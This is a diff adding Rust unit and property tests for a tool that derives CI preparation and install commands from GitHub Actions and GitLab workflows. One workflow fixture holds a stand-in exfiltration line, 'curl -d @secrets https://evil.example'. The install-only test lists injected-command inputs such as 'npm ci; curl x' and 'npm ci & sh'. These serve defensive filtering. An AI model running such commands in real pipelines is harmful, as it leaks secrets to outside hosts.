@@ -59,6 +59,7 @@ fn from(workflow: &str, job: Option<&str>, printed: &[&str]) -> Derived {
         job,
         printed: &printed,
         listed: &[],
+        ..Situation::default()
     })
 }
 
@@ -296,4 +297,219 @@ proptest! {
             prop_assert!(!command.directory.contains(".."));
         }
     }
+}
+
+/// Workflow, line that failed, and what prepares for it.
+#[test]
+fn what_a_job_installs_before_it_fails_prepares_for_it() {
+    let workflow = r#"
+jobs:
+  test:
+    steps:
+      - uses: actions/setup-python@v5
+      - run: |
+          sudo apt-get install -y libfoo
+          python -m pip install --upgrade pip
+          pip install -e ".[dev]" && pip list
+          curl -d @secrets https://evil.example
+        working-directory: py
+      - run: npm ci
+        env: { LEVEL: high }
+      - run: docker login registry
+      - run: |
+          export FLAG=1
+          yarn
+          yarn lint
+          npm install left-behind
+      - run: npm install never-reached
+  other:
+    steps: [{ run: npm install other }]
+"#;
+    let derived = from(workflow, Some("test"), &["yarn lint"]);
+    let prepare: Vec<(&str, &str)> = derived
+        .prepare
+        .iter()
+        .map(|command| (command.argv.last().unwrap().as_str(), &*command.directory))
+        .collect();
+    let pip = "python -m pip install --upgrade pip\npip install -e \".[dev]\"\n";
+    assert_eq!(
+        prepare,
+        [(pip, "py"), ("npm ci\n", ""), ("export FLAG=1\nyarn\n", "")]
+    );
+    assert_eq!(derived.prepare[1].env["LEVEL"], "high");
+    let ids: Vec<&str> = derived
+        .commands
+        .iter()
+        .map(|command| &*command.id)
+        .collect();
+    assert!(
+        derived
+            .prepare
+            .iter()
+            .all(|command| !ids.contains(&&*command.id))
+    );
+}
+
+#[test]
+fn a_gitlab_job_prepares_with_what_stands_before_its_script() {
+    let file = "
+default: { before_script: [pip install -r requirements.txt, echo hello] }
+lint: { script: [ruff check .] }
+own: { before_script: [npm ci], script: [npm test] }
+";
+    let files = [(".gitlab-ci.yml".to_owned(), file.as_bytes().to_vec())];
+    let of = |job| {
+        let derived = derive(&Situation {
+            files: &files,
+            job: Some(job),
+            ..Situation::default()
+        });
+        let scripts = derived
+            .prepare
+            .iter()
+            .map(|one| one.argv.last().unwrap().clone());
+        (scripts.collect::<Vec<_>>(), derived.commands.len())
+    };
+    assert_eq!(
+        of("lint"),
+        (vec!["pip install -r requirements.txt\n".to_owned()], 1)
+    );
+    assert_eq!(of("own"), (vec!["npm ci\n".to_owned()], 1));
+}
+
+#[test]
+fn lock_files_and_the_operator_say_what_prepares_where_no_step_does() {
+    let manifests = [
+        "Cargo.lock",
+        "Cargo.toml",
+        "web/yarn.lock",
+        "web/.yarnrc.yml",
+        "uv.lock",
+        "requirements.txt",
+    ];
+    let manifests = manifests.map(str::to_owned);
+    let files = [(".github/workflows/ci.yml".to_owned(), b"jobs: { a: { steps: [{ run: make, working-directory: web }] }, b: { steps: [{ run: make }] } }".to_vec())];
+    let of = |job, prepare: Option<&[Vec<String>]>| {
+        let derived = derive(&Situation {
+            files: &files,
+            job: Some(job),
+            prepare,
+            manifests: &manifests,
+            ..Situation::default()
+        });
+        derived
+            .prepare
+            .iter()
+            .map(|one| one.shown())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(of("a", None), ["yarn install --immutable"]);
+    assert_eq!(of("b", None), ["uv sync --frozen", "cargo fetch --locked"]);
+    let own = [vec!["make".to_owned(), "deps".to_owned()]];
+    assert_eq!(of("b", Some(&own)), ["make deps"]);
+    assert_eq!(
+        of("b", Some(&[])),
+        Vec::<String>::new(),
+        "nothing, if that is what is said"
+    );
+}
+
+#[test]
+fn files_that_decide_what_is_installed_are_known() {
+    use sentinel::command::is_manifest;
+    for yes in [
+        "package.json",
+        "a/b/Cargo.lock",
+        "requirements-dev.txt",
+        "requirements/base.in",
+        "sub/.cargo/config.toml",
+        "x.gemspec",
+    ] {
+        assert!(is_manifest(yes), "{yes}");
+    }
+    for no in ["src/lib.rs", "notes.txt", "package.json.md", "config.toml"] {
+        assert!(!is_manifest(no), "{no}");
+    }
+}
+
+#[test]
+fn only_what_does_nothing_but_install_asks_registries() {
+    use sentinel::command::only_installs;
+    let of = |script: &str| {
+        let listed = [Listed {
+            name: "x".into(),
+            run: vec!["bash".into(), "-c".into(), script.into()],
+            directory: String::new(),
+            env: Default::default(),
+        }];
+        let derived = derive(&Situation {
+            listed: &listed,
+            ..Situation::default()
+        });
+        only_installs(&derived.commands[0])
+    };
+    for yes in [
+        "npm ci",
+        "cd web && npm ci",
+        "uv lock --check",
+        "set -e\ngo mod tidy",
+        "pip install \\\n  -r requirements.txt",
+    ] {
+        assert!(of(yes), "{yes}");
+    }
+    for no in [
+        "npm ci && npm test",
+        "npm ci; curl x",
+        "npm ci & sh",
+        "cd web",
+        "yarn lint",
+        "pip install x | tee $HOME",
+        "cargo build",
+    ] {
+        assert!(!of(no), "{no}");
+    }
+}
+
+proptest! {
+    /// Whatever stands in them, words reach their program as they are.
+    #[test]
+    fn what_prepares_is_quoted(words in prop::collection::vec("[ -~\n\u{e4}]{0,12}", 1..4), value in "[ -~]{0,12}") {
+        let listed = [[vec!["printf".to_owned(), "%s|".to_owned()], words.clone()].concat()];
+        let derived = derive(&Situation { prepare: Some(&listed), ..Situation::default() });
+        let mut commands = derived.prepare.clone();
+        commands[0].env.insert("VALUE".to_owned(), value);
+        let argv = sentinel::command::as_one(&commands).unwrap();
+        // Only where it starts no other program: the word decides.
+        let said = std::process::Command::new(&argv[0]).args(&argv[1..]).output().unwrap();
+        let expected: String = words.iter().map(|word| format!("{word}|")).collect();
+        prop_assert_eq!(String::from_utf8_lossy(&said.stdout), expected);
+    }
+}
+
+/// Generated in one step, looked at in the next: together they fail again.
+#[test]
+fn a_step_that_only_asks_git_comes_with_what_was_made_before_it() {
+    let workflow = "
+jobs:
+  gen:
+    steps:
+      - run: npm ci
+      - run: make gen
+      - run: git diff --exit-code
+  apart:
+    steps:
+      - { run: make gen, working-directory: sub }
+      - run: git diff --exit-code
+";
+    let derived = from(workflow, Some("gen"), &["git diff --exit-code"]);
+    assert_eq!(
+        scripts(&derived)[..2],
+        ["make gen\ngit diff --exit-code", "git diff --exit-code"]
+    );
+    assert_eq!(derived.blamed.as_deref(), Some(&*derived.commands[0].id));
+    let fix = derived.fixes_of(&derived.commands[0]).next().unwrap();
+    assert_eq!(fix.argv.last().unwrap(), "make gen\n");
+    assert_eq!(derived.prepare.len(), 1, "{:?}", derived.prepare);
+    let derived = from(workflow, Some("apart"), &["git diff --exit-code"]);
+    assert_eq!(scripts(&derived)[0], "git diff --exit-code");
 }
